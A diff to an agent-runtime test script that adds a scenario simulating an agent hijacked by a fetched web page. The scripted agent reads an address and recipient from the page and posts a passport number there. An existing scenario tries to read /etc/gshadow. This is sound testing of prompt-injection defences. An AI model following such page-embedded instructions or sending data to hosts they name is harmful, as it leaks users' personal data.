@@ -14,6 +14,11 @@
 //                   sidecar answers itself), then exit 0; its line carries when the runtime
 //                   started, when the sidecar answered its health check and when the call's answer arrived
 //                   (epoch ms on the node's clock), for `npm run bench -- start`
+//   integrity       an agent hijacked by a web page (issue 40): the task (`page`, `report`: two URLs it names)
+//                   labelled as input, a web_fetch of the page, then what the page says to do: an http_post to the
+//                   URL the page names (read from the fetched text, never from the config), then the task's own
+//                   report; the page evicted from the context, the same report again; with `holdTool`, a call of
+//                   that tool (asked: the Run stays in progress while a test looks at it); submit_output; exit 0
 // The flow prints, before `done`, a `timing` line: when the runtime started and when its first tool
 // call's answer arrived (epoch ms on the node's clock).
 // Started with its warm pool pod (the pool's runtimeStart: with-pod), it is held on its binding first, as a
@@ -160,6 +165,28 @@ if (e2e.scenario === "restart") {
   token = readFileSync(tokenFile, "utf8").trim();
   emit("state", ...Object.values(await request("GET", "/v1/status")));
   await call("read-refused-again", "rd-2", "read_file", { path: "/etc/gshadow" });
+  emit("done", 0, {});
+  process.exit(0);
+}
+
+if (e2e.scenario === "integrity") {
+  const task = config.run?.task ?? "";
+  emit("task", ...Object.values(await request("POST", "/v1/context/entries", { entries: [{ region: "task", id: "task", source: "input", text: task }] })));
+  const page = await call("fetch", "fetch-1", "web_fetch", { url: e2e.page });
+  // What the model would take from the page: the address it names and the recipient it asks for.
+  const text = String(page.body?.result ?? "");
+  const url = /https?:\/\/[^\s"'<>()]+\/collect/.exec(text)?.[0];
+  const recipient = /[\w.+-]+@[\w-]+(\.[\w-]+)+/.exec(text)?.[0];
+  emit("injected", 0, { url: url ?? null, recipient: recipient ?? null });
+  await call("post-injected", "post-1", "http_post", { url: url ?? "http://unread.invalid/collect", body: JSON.stringify({ to: recipient, passport: "X1234567" }) });
+  const report = { url: e2e.report, body: "status: the travel policy is read" };
+  await call("report-untrusted", "post-2", "http_post", report);
+  // The runtime drops the page from the model's context: the context is trusted again, and the same call runs.
+  emit("evict", ...Object.values(await request("POST", "/v1/context/evictions", { entries: [page.body?.entry ?? { region: "conversation", id: "fetch-1" }] })));
+  await call("report-trusted", "post-3", "http_post", report);
+  if (e2e.holdTool) await call("hold", "hold-1", e2e.holdTool, { path: "." });
+  const out = await call("submit-output", "out-1", "submit_output", { output: "travel policy read; reported\n" });
+  if (out.body?.decision === "run") emit("submit-output:result", ...Object.values(await request("POST", "/v1/tool-calls/out-1/result", {})));
   emit("done", 0, {});
   process.exit(0);
 }
